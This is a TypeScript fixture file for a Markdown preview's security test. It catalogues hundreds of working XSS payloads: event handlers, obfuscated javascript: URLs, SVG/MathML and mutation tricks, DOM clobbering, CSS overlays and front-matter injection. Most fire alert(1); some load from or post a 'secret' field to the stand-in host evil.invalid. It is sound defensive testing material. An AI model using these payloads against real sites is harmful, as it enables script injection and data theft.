/**
 * Hostile Markdown for the preview, as data: each vector is typed into the app on its own,
 * between two harmless marker words that must stay visible (security.test.ts).
 *
 * `block` vectors stand in their own block (blank lines around them); `inline` vectors sit in
 * the middle of a paragraph; `leading` ones open the document (front matter must). Payloads call `alert(1)` (trapped by the test) or load from
 * `evil.invalid` (any request there is recorded), so anything that executes or loads is seen.
 * The `expect` field says what the vector is aimed at, for the failure message.
 */

export type VectorClass =
  | 'script'
  | 'event-handler'
  | 'embedding'
  | 'form'
  | 'meta-base-link'
  | 'svg'
  | 'mathml'
  | 'markdown-url'
  | 'html-url'
  | 'mutation'
  | 'clobbering'
  | 'target-ping'
  | 'css'
  | 'front-matter'

export interface XssVector {
  id: string
  class: VectorClass
  /** `leading`: the payload opens the document (front matter), the marker words follow it. */
  shape: 'block' | 'inline' | 'leading'
  payload: string
}

const EVIL = 'https://evil.invalid'

/** Every element a handler has been seen to fire on, with the attribute that needs no click where one exists. */
const HANDLER_ELEMENTS: string[] = [
  '<img src="x" onerror="alert(1)">',
  '<img src=x oNeRrOr=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)" >',
  '<image src=x onerror=alert(1)>',
  '<body onload="alert(1)">',
  '<body onpageshow="alert(1)">',
  '<svg onload="alert(1)"></svg>',
  '<svg/onload=alert(1)>',
  '<iframe onload="alert(1)"></iframe>',
  '<input autofocus onfocus="alert(1)">',
  '<input type="checkbox" autofocus onfocus="alert(1)">',
  '<select autofocus onfocus="alert(1)"></select>',
  '<textarea autofocus onfocus="alert(1)"></textarea>',
  '<keygen autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
  '<video src="x" onerror="alert(1)"></video>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="x" onerror="alert(1)"></audio>',
  '<marquee onstart="alert(1)">m</marquee>',
  '<a onmouseover="alert(1)" href="#">hover</a>',
  '<a href="#" onclick="alert(1)">click</a>',
  '<div onclick="alert(1)">div</div>',
  '<p onpointerenter="alert(1)">p</p>',
  '<span onanimationstart="alert(1)" style="animation:x 1s">s</span>',
  '<table onmouseover="alert(1)"><tr><td>t</td></tr></table>',
  '<td onclick="alert(1)">cell</td>',
  '<button onclick="alert(1)">b</button>',
  '<style onload="alert(1)"></style>',
  '<object data="x" onerror="alert(1)"></object>',
  '<embed src="x" onerror="alert(1)">',
  '<form onsubmit="alert(1)"><input type="submit"></form>',
  '<isindex type="image" src="x" onerror="alert(1)">',
  '<frameset onload="alert(1)">',
  '<link rel="stylesheet" href="x" onload="alert(1)" onerror="alert(1)">',
  '<picture><source srcset="x" onerror="alert(1)"><img src="y" onerror="alert(1)"></picture>',
  '<custom-element onclick="alert(1)">custom</custom-element>',
  '<x onfocus="alert(1)" tabindex="1" autofocus>x</x>',
  '<math onclick="alert(1)"><mi>x</mi></math>',
  '<h1 onmouseenter="alert(1)">heading</h1>',
  '<li onclick="alert(1)">item</li>',
  '<kbd onbeforecopy="alert(1)">k</kbd>',
  '<dialog open onclose="alert(1)">d</dialog>',
  '<body onresize="alert(1)">',
]

/** Spellings of `javascript:` and friends a browser still reads as the scheme. */
const SCHEME_SPELLINGS: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'JAVASCRIPT:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#X6a;avascript:alert(1)',
  '&#0000106;&#0000097;vascript:alert(1)',
  '&#x0000006A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javas&#99;ript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#9;script:alert(1)',
  'java&#10;script:alert(1)',
  'java&#13;script:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '&#14;javascript:alert(1)',
  '&#x20;javascript:alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,x',
  'data:application/xhtml+xml,x',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
]

/** Attribute spellings only raw HTML can carry (literal tabs, newlines, NUL, leading spaces). */
const RAW_ONLY_SPELLINGS: string[] = ['java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\rscript:alert(1)', '   javascript:alert(1)', '\tjavascript:alert(1)', 'java\u0000script:alert(1)', '\u0001javascript:alert(1)', 'javascript\t:alert(1)']

function numbered(cls: VectorClass, shape: XssVector['shape'], payloads: readonly string[]): XssVector[] {
  return payloads.map((payload, i) => ({ id: `${cls}-${i + 1}`, class: cls, shape, payload }))
}

/** Markdown link destinations cannot hold a raw space or `<`: write those in angle brackets. */
function destination(url: string): string {
  return /[\s<>()]/.test(url) ? `<${url.replace(/[<>]/g, (c) => (c === '<' ? '%3C' : '%3E'))}>` : url
}

export const XSS_VECTORS: XssVector[] = [
  ...numbered('script', 'block', [
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    `<script src="${EVIL}/x.js"></script>`,
    '<script type="module">alert(1)</script>',
    '<script>\nalert(1)\n</script>',
    '<scr<script>ipt>alert(1)</script>',
    '<script>alert(1)',
    '<script\n>alert(1)</script\n>',
    '<div><script>alert(1)</script></div>',
  ]),
  ...numbered('script', 'inline', ['<script>alert(1)</script>', '<script>alert(1)', `<script src=${EVIL}/y.js></script>`]).map((v) => ({ ...v, id: `${v.id}-inline` })),
  ...numbered('event-handler', 'block', HANDLER_ELEMENTS),
  ...numbered('event-handler', 'inline', ['<img src=x onerror=alert(1)>', '<a href="#" onmouseover=alert(1)>x</a>', '<span onclick="alert(1)">s</span>', '<b onpointerover=alert(1)>b</b>']).map((v) => ({ ...v, id: `${v.id}-inline` })),
  ...numbered('embedding', 'block', [
    '<iframe src="javascript:alert(1)"></iframe>',
    `<iframe src="${EVIL}/frame"></iframe>`,
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    `<object data="${EVIL}/x.swf"></object>`,
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    `<embed src="${EVIL}/x.swf">`,
    '<embed src="javascript:alert(1)">',
    `<frame src="${EVIL}/f">`,
    `<frameset><frame src="javascript:alert(1)"></frameset>`,
    `<applet code="x" codebase="${EVIL}"></applet>`,
    `<portal src="${EVIL}/p"></portal>`,
    `<fencedframe src="${EVIL}/f"></fencedframe>`,
  ]),
  ...numbered('form', 'block', [
    '<form action="javascript:alert(1)"><input type="submit" value="go"></form>',
    `<form action="${EVIL}/steal" method="post"><input name="secret" value="v"><button>go</button></form>`,
    '<button formaction="javascript:alert(1)">b</button>',
    `<form><button formaction="${EVIL}/x">b</button></form>`,
    '<input type="submit" formaction="javascript:alert(1)">',
    `<input type="image" src="${EVIL}/i.png" formaction="javascript:alert(1)">`,
    '<input type="text" value="phish" name="password">',
    '<isindex action="javascript:alert(1)">',
    '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  ]),
  ...numbered('meta-base-link', 'block', [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    `<meta http-equiv="refresh" content="0; url=${EVIL}/">`,
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<meta charset="utf-7">',
    `<base href="${EVIL}/">`,
    '<base href="javascript:alert(1)//">',
    `<link rel="import" href="${EVIL}/i.html">`,
    `<link rel="stylesheet" href="${EVIL}/s.css">`,
    `<link rel="prefetch" href="${EVIL}/p">`,
    `<link rel="preload" as="script" href="${EVIL}/p.js">`,
    `<link rel="dns-prefetch" href="${EVIL}">`,
    `<link rel="icon" href="${EVIL}/favicon.ico">`,
    `<link rel="modulepreload" href="${EVIL}/m.js">`,
    '<style>body { display: none }</style>',
    `<style>@import url(${EVIL}/i.css);</style>`,
    '<style>*{background:red!important}</style>',
  ]),
  ...numbered('svg', 'block', [
    '<svg><script>alert(1)</script></svg>',
    `<svg><script href="${EVIL}/s.js"></script></svg>`,
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text x="20" y="20">click</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"></set><text x="20" y="20">click</text></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    '<svg><foreignObject><img src="x" onerror="alert(1)"></foreignObject></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;image href=%221%22 onerror=%22alert(1)%22/&gt;&lt;/svg&gt;#x"></use></svg>',
    `<svg><use xlink:href="${EVIL}/sprite.svg#x"></use></svg>`,
    '<svg><image href="javascript:alert(1)"></image></svg>',
    `<svg><image xlink:href="${EVIL}/i.png"></image></svg>`,
    '<svg><style>@import url(https://evil.invalid/s.css)</style></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><feImage href="javascript:alert(1)"></feImage></svg>',
    '<svg><discard onbegin="alert(1)"></discard></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"></set></svg>',
  ]),
  ...numbered('mathml', 'block', [
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click<mtext>s</mtext></maction></math>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    '<math><mrow href="javascript:alert(1)"><mi>x</mi></mrow></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;"></style></mglyph></table></mtext></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<math><semantics><annotation encoding="application/x-tex"><img src=x onerror=alert(1)></annotation></semantics></math>',
    '<math><mstyle mathbackground="url(https://evil.invalid/b.png)" style="position:fixed;inset:0"><mi>x</mi></mstyle></math>',
    '<math><mi style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">x</mi></math>',
    '<math><mtext><a href="javascript:alert(1)">click</a></mtext></math>',
    '$\\href{javascript:alert(1)}{click}$',
    '$\\htmlStyle{position:fixed;inset:0;background:red}{x}$',
    '$\\htmlId{location}{x}$ and $\\htmlClass{topbar}{y}$',
    '$$\n\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}\n$$',
  ]),
  // Markdown links, images, autolinks and reference definitions with every spelling.
  ...numbered('markdown-url', 'inline', [
    ...SCHEME_SPELLINGS.map((url) => `[link](${destination(url)})`),
    ...SCHEME_SPELLINGS.map((url) => `![image](${destination(url)})`),
    '[link](<javascript:alert(1)>)',
    '[link]( javascript:alert(1) "title")',
    '[link](javascript:alert%281%29)',
    '[link](javascript:alert&#40;1&#41;)',
    '[link](\\javascript:alert(1))',
    '<javascript:alert(1)>',
    '<JAVASCRIPT:alert(1)>',
    '<vbscript:msgbox(1)>',
    '<data:text/html,alert(1)>',
    '<javascript:alert(1)//x@y.z>',
    'javascript:alert(1) and www.javascript:alert(1)',
    '[![img](javascript:alert(1))](javascript:alert(1))',
  ]),
  ...numbered('markdown-url', 'block', [
    '[ref]\n\n[ref]: javascript:alert(1)',
    '[ref][]\n\n[ref]: <javascript:alert(1)>',
    '[ref]\n\n[ref]: &#106;avascript:alert(1)',
    '[ref]\n\n[ref]: JaVaScRiPt:alert(1) "title"',
    '![ref]\n\n[ref]: javascript:alert(1)',
    '![ref][img]\n\n[img]: data:text/html,alert(1)',
    '[ref]\n\n[ref]: vbscript:msgbox(1)',
    '[ref]\n\n[ref]:\n  javascript:alert(1)',
    'Note[^n]\n\n[^n]: [link](javascript:alert(1)) <img src=x onerror=alert(1)>',
    '| a |\n|---|\n| [x](javascript:alert(1)) <img src=x onerror=alert(1)> |',
    '- [ ] [task](javascript:alert(1))',
    '> [quote](javascript:alert(1))',
  ]).map((v) => ({ ...v, id: `${v.id}-block` })),
  // HTML attributes that take URLs.
  ...numbered('html-url', 'inline', [
    ...SCHEME_SPELLINGS.map((url) => `<a href="${url.replace(/"/g, '&quot;')}">a</a>`),
    ...RAW_ONLY_SPELLINGS.map((url) => `<a href="${url}">a</a>`),
    ...SCHEME_SPELLINGS.slice(0, 8).map((url) => `<img src="${url}" alt="i">`),
    ...RAW_ONLY_SPELLINGS.map((url) => `<img src="${url}" alt="i">`),
    '<img srcset="javascript:alert(1) 1x, javascript:alert(2) 2x" alt="i">',
    `<img src="x.png" srcset="${EVIL}/a.png 1x" alt="i">`,
    '<picture><source srcset="javascript:alert(1)"><img src="x.png" alt="p"></picture>',
    '<picture><source srcset="data:text/html,x 1x"><img alt="p"></picture>',
    '<picture><source srcset="java&#9;script:alert(1) 2x"><img alt="p"></picture>',
    '<video poster="javascript:alert(1)"></video>',
    `<video poster="${EVIL}/p.png"></video>`,
    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
    `<td background="${EVIL}/b.png">t</td>`,
    `<body background="${EVIL}/b.png">`,
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="javascript:alert(1)">q</q>',
    '<del cite="javascript:alert(1)">d</del>',
    '<img longdesc="javascript:alert(1)" src="x.png" alt="l">',
    '<a href="javascript:alert(1)" xlink:href="javascript:alert(1)">a</a>',
    '<form action="javascript:alert(1)"><button>f</button></form>',
    '<button formaction="javascript:alert(1)">f</button>',
    '<area href="javascript:alert(1)">',
    '<a href="  &#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>',
    '<a href=javascript:alert(1)>a</a>',
    "<a href='javascript:alert(1)'>a</a>",
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" src="x.png" alt="d">',
    '<a href="data:image/svg+xml,<svg onload=alert(1)>">a</a>',
  ]),
  // Mutation XSS: markup that parses differently the second time, or breaks out of raw text.
  ...numbered('mutation', 'block', [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<template><script>alert(1)</script></template>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<title><img src=x onerror=alert(1)></title>',
    '<title></title><img src=x onerror=alert(1)>',
    '<style><img src=x onerror=alert(1)></style>',
    '<style></style><img src=x onerror=alert(1)>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<iframe><img src=x onerror=alert(1)></iframe>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<noframes><img src=x onerror=alert(1)></noframes>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<svg><foreignobject><p><style><img src=x onerror=alert(1)></style></p></foreignobject></svg>',
    '<div><svg><style><img src=x onerror=alert(1)></style></svg></div>',
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    '<img title="<img src=x onerror=alert(1)>" src="x.png" alt="t">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<!-- a -- ><img src=x onerror=alert(1)> -->',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<!DOCTYPE html><img src=x onerror=alert(1)>',
    '</p><img src=x onerror=alert(1)><p>',
    '<table><td><math><mtext><img src=x onerror=alert(1)></mtext></math></td></table>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<noscript><style></noscript><img src=x onerror=alert(1)>',
    '<p><svg><desc><img src=x onerror=alert(1)></desc></svg></p>',
    '<div id="a"><img src=x onerror=alert(1)',
    '<img src=x onerror=alert(1)\n\nnext paragraph',
  ]),
  ...numbered('mutation', 'inline', [
    'text <textarea> more',
    'text <title> more',
    'text <style> more',
    'text <xmp> more',
    'text <iframe> more',
    'text <noembed> more',
    'text <noframes> more',
    'text <noscript> more',
    'text <plaintext> more',
    'text <script> more',
    'text <template> more',
    'text <!-- c --> more',
  ]).map((v) => ({ ...v, id: `${v.id}-inline` })),
  // DOM clobbering: ids and names that would shadow globals, heading slugs and footnote labels.
  ...numbered('clobbering', 'block', [
    '<img id="location" name="location" src="x.png" alt="c">',
    '<img name="alert" src="x.png" alt="c">',
    '<form name="body"><input name="appendChild"></form>',
    '<a id="defaultView" href="#">a</a>',
    '<img name="cookie" src="x.png" alt="c">',
    '<a id="x"></a><a id="x" name="y" href="javascript:alert(1)">a</a>',
    '<img name="getElementById" src="x.png" alt="c">',
    '<div id="root">r</div>',
    '<img id="__proto__" src="x.png" alt="c">',
    '<div id="__xss">x</div>',
    '<img name="querySelector" src="x.png" alt="c"><img name="querySelectorAll" src="x.png" alt="c">',
    '<a name="markdocx">m</a>',
    '<p aria-labelledby="root" aria-describedby="root">p</p>',
    '<label for="root">l</label>',
    '# __proto__',
    '# constructor',
    '# body',
    '# location',
    '# root',
    '# hasOwnProperty',
    '# user-content-root',
    'Notes[^constructor] and[^__proto__] and[^toString] and[^hasOwnProperty] and[^root]\n\n[^constructor]: c\n[^__proto__]: p\n[^toString]: t\n[^hasOwnProperty]: h\n[^root]: r',
    '[^valueOf] [^length]\n\n[^valueOf]: v\n[^length]: l',
    '[constructor] [__proto__]\n\n[constructor]: https://example.org/c\n[__proto__]: https://example.org/p',
  ]),
  // Link targets, opener access and pings.
  ...numbered('target-ping', 'inline', [
    `<a href="${EVIL}/" target="_top">top</a>`,
    `<a href="${EVIL}/" target="_self">self</a>`,
    `<a href="${EVIL}/" target="_parent">parent</a>`,
    `<a href="${EVIL}/" ping="${EVIL}/ping">ping</a>`,
    `<a href="${EVIL}/" rel="opener">opener</a>`,
    `<a href="${EVIL}/" download="x.html">download</a>`,
    `<a href="${EVIL}/" referrerpolicy="unsafe-url">referrer</a>`,
    `[md](${EVIL}/ "title")`,
    `<${EVIL}/auto>`,
    `<area href="${EVIL}/" ping="${EVIL}/ping">`,
    `<a href="${EVIL}/" target="markdocx">named</a>`,
    `<a href="${EVIL}/" attributionsrc="${EVIL}/a">attribution</a>`,
    `<a href="${EVIL}/" accesskey="s">accesskey</a>`,
    '<kbd accesskey="e" tabindex="0">k</kbd>',
  ]),
  // CSS that overlays, restyles or loads.
  ...numbered('css', 'block', [
    '<div style="position:fixed;inset:0;z-index:2147483647;background:white">overlay</div>',
    '<div style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:99999">overlay</div>',
    `<div style="background:url(${EVIL}/b.png)">bg</div>`,
    '<div style="width:expression(alert(1))">e</div>',
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">b</div>',
    `<style>.topbar{display:none}</style>`,
    `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}</style>`,
    '<div class="topbar banner error app">classes of the app</div>',
    '<div class="page preview-pane">app layout classes</div>',
    '<span class="critic-comment">pretend margin note</span>',
    '<p class="title">pretend title</p>',
    '<div style="transform:scale(100)">scale</div>',
    '<img src="x.png" width="99999" height="99999" alt="huge">',
    '<span style="content:url(https://evil.invalid/c.png)">c</span>',
    '<svg width="100%" height="100%" style="position:fixed;top:0;left:0"><rect width="100%" height="100%"></rect></svg>',
    '<dialog open style="position:fixed">modal</dialog>',
    '<div popover="manual" id="p">popover</div>',
    '<marquee>m</marquee>',
  ]),
  // Front matter: its title block, the contents list it asks for, and the page title.
  ...numbered('front-matter', 'leading', [
    '---\ntitle: "<img src=x onerror=alert(1)>"\nsubtitle: "<script>alert(1)</script>"\nauthor: ["<svg onload=alert(1)>", "[x](javascript:alert(1))"]\ndate: "<iframe src=javascript:alert(1)>"\nabstract: "<img src=x onerror=alert(1)> [a](javascript:alert(1))"\n---',
    '---\ntitle: "</title><script>alert(1)</script>"\ntoc: true\n---\n\n# <img src=x onerror=alert(1)> heading\n\n## [link](javascript:alert(1)) and <a href="javascript:alert(1)">raw</a>\n\n### __proto__',
    '---\ntitle: |\n  <style>body{display:none}</style>\nlang: "\"><script>alert(1)</script>"\nkeywords: ["<img src=x onerror=alert(1)>"]\n---',
    '---\n<script>alert(1)</script>\n---',
    '---\n- <img src=x onerror=alert(1)>\n---',
  ]),
]

/** Counts by class, for the report. */
export function vectorCounts(): Record<VectorClass, number> {
  const counts = {} as Record<VectorClass, number>
  for (const vector of XSS_VECTORS) counts[vector.class] = (counts[vector.class] ?? 0) + 1
  return counts
}
